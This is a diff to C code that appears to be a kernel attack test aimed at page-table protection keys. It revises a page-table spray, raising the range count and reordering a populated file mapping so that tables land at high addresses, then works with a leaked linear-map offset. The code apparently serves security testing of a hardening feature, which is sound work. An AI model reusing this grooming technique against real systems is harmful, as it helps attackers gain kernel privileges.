@@ -17,7 +17,7 @@
 #include <sys/syscall.h>
 
 #define X86_IMAGE	0xffffffff80000000	/* where physical address phys_base is mapped */
-#define NR_RANGES	256
+#define NR_RANGES	1024
 #define FILE_PARTS	32	/* each as large as what a table maps */
 
 static int file_of(size_t size)
@@ -48,18 +48,23 @@ static int page_prot(void)
 	unsigned long nr = PMD_SIZE / PAGE_SIZE, total = FILE_PARTS * nr, j;
 	int fd = file_of(total * PAGE_SIZE);
 	char *ranges[NR_RANGES], *range, *at;
-	u64 *frames, table, prot, old;
+	u64 *frames = NULL, table, prot, old;
 	struct kpkeys_attack_leak l = {};
 	unsigned int i;
 
-	/* First: memory is handed out from the top, where addresses have more bits. */
+	/*
+	 * Some machines hand memory out from the bottom, some from the top; tables are
+	 * wanted where addresses have more bits.
+	 */
 	for (i = 0; i < NR_RANGES; i++) {
+		if (i == NR_RANGES / 4)
+			frames = frames_of(map_file(fd, NULL, total * PAGE_SIZE, 0,
+						    MAP_POPULATE), total);
 		ranges[i] = table_range(i);
 		/* The table stays for its last page. */
 		ranges[i][(nr - 1) * PAGE_SIZE] = 1;
 		munmap(ranges[i], (nr - 1) * PAGE_SIZE);
 	}
-	frames = frames_of(map_file(fd, NULL, total * PAGE_SIZE, 0, MAP_POPULATE), total);
 	for (i = 0; i < NR_RANGES; i++) {
 		range = ranges[i];
 		table = (table_of(range, 1) - leak.linear_offset) / PAGE_SIZE;
